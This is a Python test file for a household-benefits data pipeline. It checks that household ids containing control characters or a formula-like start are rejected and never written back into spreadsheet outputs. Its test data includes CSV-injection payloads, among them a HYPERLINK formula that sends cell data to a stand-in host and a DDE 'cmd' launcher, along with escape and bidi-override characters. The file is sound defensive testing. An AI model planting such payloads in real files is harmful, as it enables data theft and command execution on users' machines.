"""Issue 15, findings 1 and 3: a household id is written back in every result and reject, which people open in a
spreadsheet. A NUL byte (or another control character) in it was accepted and copied; an id beginning like a
formula (`=HYPERLINK(…)`) was copied as it is into the results CSV. Both are refused now, with the line and the
column, and the refused id is never written back."""

import csv
import io
from datetime import date

import pytest

from pacte.core import spreadsheet
from pacte.rights import detect, households
from pacte.rights.households import ReadReport, raw_chunks, read_households

TODAY = date(2026, 11, 30)
HEADER = "foyer_id,role,date_naissance,salaire_net,depcom,statut_occupation_logement,loyer\n"
GOOD = "F001,demandeur,1988-03-14,0,44109,locataire_vide,520\n"
LAST = "F003,demandeur,1970-01-01,1200,44109,locataire_hlm,400\n"
UNSAFE_IDS = [
    "F\x00002",  # the NUL byte of the finding
    "\x00",
    "F\x1b[31m",  # an escape sequence
    "F\x7f",
    "F\x85G",  # a C1 control (next line)
    "F\u2028bis",  # a line separator
    "F\u202e200",  # a right-to-left override that reorders what a reader sees
    "F\u200b",  # a zero-width space
]
FORMULA_IDS = ['=HYPERLINK("http://x.example/?v="&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+2", "=1"]


def _file(household_id: str) -> str:
    cell = '"' + household_id.replace('"', '""') + '"'
    return HEADER + GOOD + f"{cell},demandeur,1990-01-01,1000,44109,locataire_vide,500\n" + LAST


def _read(text: str):
    report = ReadReport()
    kept = list(read_households(io.StringIO(text), today=TODAY, report=report))
    return [household.id for household in kept], report.rejects


def _split(text: str):
    report = ReadReport()
    chunks = list(raw_chunks(io.StringIO(text, newline=""), size=10, report=report))
    return chunks, [reject for chunk in chunks for reject in chunk.rejects]


@pytest.mark.parametrize("household_id", UNSAFE_IDS)
def test_a_control_character_in_a_household_id_is_refused_with_the_line_and_the_column(household_id):
    ids, rejects = _read(_file(household_id))
    assert ids == ["F001", "F003"]
    (reject,) = rejects
    assert reject.line == 3 and reject.household_id == ""
    assert str(reject).startswith(
        "ligne 3 : colonne « foyer_id » : l'identifiant du foyer contient un caractère"
    )
    assert f"U+{ord(next(c for c in household_id if not c.isalnum())):04X}" in reject.reason


@pytest.mark.parametrize("household_id", UNSAFE_IDS + FORMULA_IDS)
def test_the_splitter_of_the_batch_pipeline_refuses_it_too_and_leaves_its_line_out(household_id):
    chunks, rejects = _split(_file(household_id))
    (reject,) = rejects
    assert reject.line == 3 and reject.household_id == "" and "colonne « foyer_id »" in reject.reason
    assert sum(chunk.households for chunk in chunks) == 2
    text = "".join(chunk.text for chunk in chunks)
    assert household_id not in text and text.count("\n") == 3  # the line is blanked: the numbers stay right


@pytest.mark.parametrize("household_id", FORMULA_IDS)
def test_a_household_id_beginning_like_a_formula_is_refused(household_id):
    ids, rejects = _read(_file(household_id))
    assert ids == ["F001", "F003"]
    (reject,) = rejects
    assert reject.household_id == ""
    assert reject.reason == (
        f"colonne « foyer_id » : l'identifiant du foyer commence par « {household_id[0]} », qu'un tableur "
        "prendrait pour le début d'une formule ; commencez-le par une lettre ou un chiffre."
    )


@pytest.mark.parametrize("household_id", ["-12", "+3", "12,5", "F-001", "F=1", "A@b", "Dupont & fils"])
def test_ordinary_ids_and_plain_numbers_are_kept(household_id):
    ids, rejects = _read(_file(household_id))
    assert rejects == [] and ids == ["F001", household_id, "F003"]


def test_a_refused_id_seen_twice_is_never_written_back():
    text = HEADER + "=1,demandeur,1990-01-01,0,44109,locataire_vide,500\n" + GOOD
    text += "=1,demandeur,1990-01-01,0,44109,locataire_vide,500\n"
    for rejects in (_read(text)[1], _split(text)[1]):
        assert [(reject.line, reject.household_id) for reject in rejects] == [(2, ""), (4, "")]


def test_the_rule_of_the_engine_is_the_rule_of_the_exports():
    """The rights engine imports no app: it restates core.spreadsheet's rule, which this test keeps equal."""
    assert households.FORMULA_STARTS == spreadsheet.FORMULA_STARTS
    samples = FORMULA_IDS + [
        "-12",
        "+3",
        "12,5",
        "-1,5",
        "+.5",
        "F-001",
        "abc",
        "-",
        "+",
        "@",
        "=",
        "-1e5",
        "--1",
    ]
    for sample in samples:
        refused = households.id_problem(sample) is not None
        assert refused == spreadsheet.is_formula_like(sample), sample


def test_the_results_and_rejects_files_never_carry_the_id():
    text = _file('=HYPERLINK("http://x.example/","clic")').replace("F003", "F\x00003")
    output, rejects = io.StringIO(), io.StringIO()
    report = detect.detect(io.StringIO(text), output=output, rejects=rejects, today=TODAY, month="2026-10")
    assert report.households == 1 and report.rejected == 2
    results, refused = output.getvalue(), rejects.getvalue()
    assert "HYPERLINK" not in results + refused and "\x00" not in results + refused
    rows = list(csv.DictReader(io.StringIO(refused), delimiter=";"))
    assert [(row["ligne"], row["foyer_id"]) for row in rows] == [("3", ""), ("4", "")]
    assert {row["foyer_id"] for row in csv.DictReader(io.StringIO(results), delimiter=";")} == {"F001"}
